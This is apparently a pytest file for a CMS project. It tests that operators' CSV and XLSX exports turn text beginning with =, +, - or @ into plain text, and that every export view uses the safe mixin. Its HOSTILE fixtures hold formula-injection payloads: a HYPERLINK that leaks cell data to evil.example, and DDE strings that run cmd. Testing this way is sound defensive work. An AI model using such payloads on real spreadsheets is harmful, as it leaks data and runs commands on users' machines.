"""Operators' spreadsheet exports: text that a spreadsheet would run as a formula is exported as text."""

import csv
import io

import pytest
from openpyxl import load_workbook
from wagtail import hooks
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from cms.spreadsheets import SafeSpreadsheetExportMixin, spreadsheet_safe
from search.models import MatchProposal

from .factories import DemandFactory, OrganisationFactory, PublishedListingFactory, UserFactory

PROJECT_APPS = ("cms", "marketplace", "search", "payments", "ipmarket")
HOSTILE = {
    "demand": "=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "listing": "+1+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_starting_a_formula_becomes_text(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["锂电池", "a=b", " =1", "", -5, 3.5, None])
def test_other_values_are_left_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def hostile_proposal(db):
    organisation = OrganisationFactory(name_zh=HOSTILE["organisation"], kind="enterprise")
    demand = DemandFactory(title=HOSTILE["demand"], organisation=organisation)
    listing = PublishedListingFactory(title_zh=HOSTILE["listing"], title_en="")
    return MatchProposal.objects.create(demand=demand, listing=listing, score=77, factors={"score": 77})


@pytest.fixture
def operator_client(client, db):
    client.force_login(UserFactory(username="boss", is_superuser=True, is_staff=True))
    return client


def exported_row(operator_client, export_format) -> list:
    response = operator_client.get(f"/admin/reports/matches/?export={export_format}")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode())))[1]
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for cell in list(sheet.iter_rows())[1]]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_matches_report_exports_hostile_titles_as_text(operator_client, hostile_proposal, export_format):
    row = exported_row(operator_client, export_format)
    for text in HOSTILE.values():
        assert "'" + text in row
    assert not any(isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")) for cell in row)
    assert 77 in row or "77" in row  # numbers stay numbers


def test_every_export_view_of_the_project_is_safe():
    hooks.search_for_hooks()

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    ours = {view for view in subclasses(SpreadsheetExportMixin) if view.__module__.startswith(PROJECT_APPS)}
    assert ours, "the project's export views were not found"
    unsafe = {view.__qualname__ for view in ours if not issubclass(view, SafeSpreadsheetExportMixin)}
    assert not unsafe, f"export views without SafeSpreadsheetExportMixin: {sorted(unsafe)}"
